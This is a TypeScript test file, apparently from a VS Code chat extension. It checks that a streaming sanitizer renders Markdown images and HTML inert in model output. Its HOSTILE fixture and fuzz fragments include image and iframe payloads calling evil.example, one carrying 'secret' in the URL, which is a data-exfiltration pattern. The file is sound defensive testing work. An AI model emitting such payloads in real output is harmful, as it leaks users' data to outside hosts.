import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import type { Token } from 'markdown-it';
import { InertMarkdownStream } from '../../../src/chat/model/inertMarkdown';

// A CommonMark parser with HTML on is the strictest judge of what would load on render.
const md = new MarkdownIt({ html: true, linkify: false });

/** Token types that would fetch something or inject markup when rendered. */
function loadingTokens(markdown: string): string[] {
  const found: string[] = [];
  const visit = (tokens: readonly Token[]): void => {
    for (const token of tokens) {
      if (token.type === 'image' || token.type === 'html_inline' || token.type === 'html_block')
        found.push(`${token.type}: ${token.content}`);
      if (token.children) visit(token.children);
    }
  };
  visit(md.parse(markdown, {}));
  return found;
}

/** Streams `chunks` through one InertMarkdownStream and returns everything it released. */
function streamed(chunks: readonly string[]): string {
  const inert = new InertMarkdownStream();
  return chunks.map((chunk) => inert.push(chunk)).join('') + inert.end();
}

const HOSTILE = [
  'Look ![pixel](https://evil.example/p.png?d=secret) here',
  '<img src="https://evil.example/x.png"> and <iframe src="https://evil.example">',
  '\\![escaped by the model](https://evil.example/e.png)',
  '\\`![after a backslash](https://evil.example/b.png)\\`',
  '![by reference][r]\n\n[r]: https://evil.example/r.png',
  '[![badge](https://evil.example/badge.svg)](https://example.com)',
  '```not`a fence\n![inside no fence](https://evil.example/f.png)',
].join('\n');

void describe('InertMarkdownStream (model output for VS Code chat)', () => {
  void it('leaves no image and no HTML in hostile Markdown, and keeps code as it was', () => {
    const out = streamed([HOSTILE, '\n```ts\nconst a: Array<string> = []; // ![x](y)\n```\nuse `Map<K, V>`']);
    assert.deepEqual(loadingTokens(out), []);
    assert.ok(out.includes('const a: Array<string> = []; // ![x](y)'), 'fenced code untouched');
    assert.ok(out.includes('`Map<K, V>`'), 'inline code untouched');
    assert.ok(out.includes('https://evil.example/p.png'), 'the address stays visible as text');
  });

  void it('reads backtick runs whole: "```![``]()" is no fence and no code span, so its image is made inert', () => {
    // Found by the property below (CI, seed -737171196): a code span was taken from inside a run of three.
    const out = streamed(['```![``]()']);
    assert.deepEqual(loadingTokens(out), [], out);
  });

  void it('whatever the text and however it is split into deltas: nothing loads, and the split does not matter', () => {
    const piece = fc.constantFrom(
      '![',
      '](',
      ')',
      '[',
      ']',
      '<',
      '>',
      'img src=x',
      'https://evil.example/a.png',
      '`',
      '``',
      '\\',
      '\n',
      '```',
      '~~~',
      ' ',
      'text',
      ':',
      '[r]: https://evil.example/r.png\n',
      '!',
      '&',
      '\n\n',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 60 }),
        fc.array(fc.nat(), { maxLength: 10 }),
        (pieces, cuts) => {
          const text = pieces.join('');
          const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
          const chunks = [0, ...points].map((from, i) => text.slice(from, points[i] ?? text.length));
          const out = streamed(chunks);
          assert.equal(out, streamed([text]), 'the split changed the output');
          assert.deepEqual(loadingTokens(out), [], out);
        },
      ),
      { numRuns: Number(process.env['IM_RUNS'] ?? 2_000) },
    );
  });
});
